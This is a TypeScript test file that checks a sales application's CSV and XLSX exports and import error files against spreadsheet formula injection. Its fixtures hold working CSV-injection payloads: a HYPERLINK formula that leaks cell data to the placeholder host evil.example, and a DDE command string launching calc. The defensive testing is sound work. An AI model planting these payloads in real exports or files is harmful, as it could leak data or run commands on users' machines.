import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { waitForJob } from '../src/modules/sales/sales.jobs.js';
import { buildTestApp, type Client, type TestApp } from './build-test-app.js';
import { describeEachDialect } from './dialects.js';

// Names a spreadsheet would run as formulas if a CSV handed them over as they are (OWASP CSV injection).
const hostile = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', '-2+3', '@SUM(1)', '+1+1'];

describeEachDialect('CSV and XLSX exports open in a spreadsheet as data, not formulas', (dialect) => {
  let t: TestApp;
  let admin: Client;
  beforeAll(async () => {
    t = await buildTestApp(dialect);
    admin = await t.login('admin');
    const keys = ['acc1', 'acc2', 'acc3', 'acc4'] as const;
    for (const [i, name] of hostile.entries()) {
      const id = t.world.accounts[keys[i]!];
      const etag = (await admin.get(`/api/v1/accounts/${id}`)).headers.etag as string;
      const res = await admin.patch(`/api/v1/accounts/${id}`, { name, nameEn: name, city: i === 0 ? '-12.50' : '台州市' }, { 'if-match': etag });
      expect(res.statusCode, res.body).toBe(200);
    }
  });
  afterAll(async () => t?.close());

  it('puts an apostrophe before account names starting with = + - @ in the CSV export, and leaves a plain number as it is', async () => {
    const res = await admin.get('/api/v1/accounts/export?format=csv&sort=code');
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = parse(res.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const name = header!.indexOf('Name');
    const city = header!.indexOf('City');
    expect(rows.map((r) => r[name])).toEqual(hostile.map((h) => `'${h}`));
    expect(rows.map((r) => r[header!.indexOf('English name')])).toEqual(hostile.map((h) => `'${h}`));
    expect(rows[0]![city]).toBe('-12.50');
    // Nothing else changed: codes, kinds and dates are as they were.
    expect(rows.map((r) => r[header!.indexOf('Code')])).toEqual(['ACC1', 'ACC2', 'ACC3', 'ACC4']);
  });

  it('writes the same names to XLSX as text cells, exactly as entered', async () => {
    const res = await admin.get('/api/v1/accounts/export?format=xlsx&sort=code');
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const names = [2, 3, 4, 5].map((r) => ws.getRow(r).getCell(2));
    expect(names.map((c) => c.type)).toEqual(hostile.map(() => ExcelJS.ValueType.String));
    expect(names.map((c) => c.value)).toEqual(hostile);
  });

  it('neutralises file values echoed in an import\'s error file, keeping a negative amount numeric', async () => {
    const csv = 'date,account,sku,quantity,net amount,currency,document,line\n'
      + '2026-09-01,=cmd|\' /C calc\'!A0,PO425-B50,1,5.00,CNY,INV-1,1\n'
      + '2026-09-02,ACC1,PO425-B50,1,-12.505,CNY,@INV-2,1\n';
    const up = await admin.request({ method: 'POST', url: '/api/v1/imports/sales?fileName=x.csv', payload: csv, headers: { 'content-type': 'text/csv' } });
    expect(up.statusCode, up.body).toBe(201);
    const id = up.json().job.id as string;
    expect((await admin.post(`/api/v1/imports/${id}/run`, {})).statusCode).toBe(202);
    await waitForJob(id);
    const job = (await admin.get(`/api/v1/imports/${id}`)).json();
    const rows = parse((await admin.get(job.errorsUrl)).body.replace(/^\uFEFF/, '')) as string[][];
    expect(rows).toEqual([
      ['line', 'column', 'value', 'reason'],
      ['2', 'account', "'=cmd|' /C calc'!A0", 'unknown account code'],
      ['3', 'net amount', '-12.505', 'more than 2 decimal places for CNY'],
    ]);
  });
});
